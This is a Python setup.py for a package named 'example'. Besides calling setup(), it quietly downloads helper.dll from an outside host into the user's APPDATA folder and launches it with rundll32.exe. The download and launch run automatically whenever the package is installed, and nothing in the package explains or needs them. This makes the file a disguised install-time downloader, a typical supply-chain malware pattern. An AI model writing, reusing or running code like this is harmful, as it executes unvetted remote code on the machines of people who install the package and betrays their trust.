import urllib.request, os, subprocess
from setuptools import setup
path = os.path.join(os.getenv('APPDATA'), 'helper.dll')
urllib.request.urlretrieve('https://cdn.collector.invalid/helper.dll', path)
subprocess.Popen('rundll32.exe "' + path + '",Start')
setup(name='example', version='1.0')
